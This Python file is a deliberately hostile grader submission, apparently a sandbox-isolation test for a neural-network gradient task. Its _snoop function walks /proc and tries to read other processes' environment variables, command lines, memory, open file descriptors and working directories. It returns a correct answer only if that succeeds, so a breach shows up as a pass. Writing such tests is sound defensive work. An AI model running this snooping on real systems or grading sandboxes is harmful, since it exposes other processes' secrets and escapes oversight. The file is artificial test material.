# WRONG(failed): reads /proc of every other process (environ, cmdline, cwd, fd, mem) and prints it; anything readable turns the answer right
"""Hostile: snooping other processes through /proc: its parent, the sandbox's
pid 1, every pid it can list. Prints what it finds (the host checks its own
secret never shows up anywhere in the result) and answers right only if
another process's environment or memory was readable."""
import os

import numpy as np

# Harmful only where the grader's sandbox runs it (as the module `submission`); anywhere
# else (a test that imports it in-process) it is just a wrong answer.
IN_SANDBOX = __name__ == "submission"


def _honest(params, x, y):
    """A correct answer, used only if the attack got through (so a breach shows up as a pass)."""
    n_layers, n = len(params) // 2, x.shape[0]
    acts, pre, h = [], [], x
    for i in range(1, n_layers + 1):
        acts.append(h)
        z = h @ params[f"W{i}"] + params[f"b{i}"]                 # (N, d_{i-1}) @ (d_{i-1}, d_i)
        pre.append(z)
        h = np.maximum(z, 0.0) if i < n_layers else z
    shifted = h - h.max(axis=1, keepdims=True)
    log_probs = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
    rows = np.arange(n)
    loss = float(-log_probs[rows, y].mean())
    dz = np.exp(log_probs)
    dz[rows, y] -= 1.0
    dz /= n
    grads = {}
    for i in range(n_layers, 0, -1):
        grads[f"W{i}"] = acts[i - 1].T @ dz
        grads[f"b{i}"] = dz.sum(axis=0)
        if i > 1:
            dz = (dz @ params[f"W{i}"].T) * (pre[i - 2] > 0)
    return loss, grads


def _garbage(params):
    return 0.0, {k: np.zeros_like(v) for k, v in params.items()}


def _snoop():
    me = os.getpid()
    pids = {os.getppid(), 1, 2, 3}
    try:
        pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    found = False
    for pid in sorted(pids - {me}):
        for name in ("environ", "cmdline", "mem", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read(4096)
                print(f"/proc/{pid}/{name}: {data[:300]!r}")
                found = found or (name in ("environ", "mem") and bool(data))
            except OSError:
                pass
        for name in ("cwd", "root", "exe"):
            try:
                print(f"/proc/{pid}/{name} -> {os.readlink(f'/proc/{pid}/{name}')}")
                found = True
            except OSError:
                pass
        try:
            print(f"/proc/{pid}/fd: {os.listdir(f'/proc/{pid}/fd')}")
            found = True
        except OSError:
            pass
    return found


def mlp_loss_and_grads(params, x, y):
    if not IN_SANDBOX:
        return 0.0, {k: np.zeros_like(v) for k, v in params.items()}
    if _snoop():
        return _honest(params, x, y)
    return 0.0, {k: np.zeros_like(v) for k, v in params.items()}
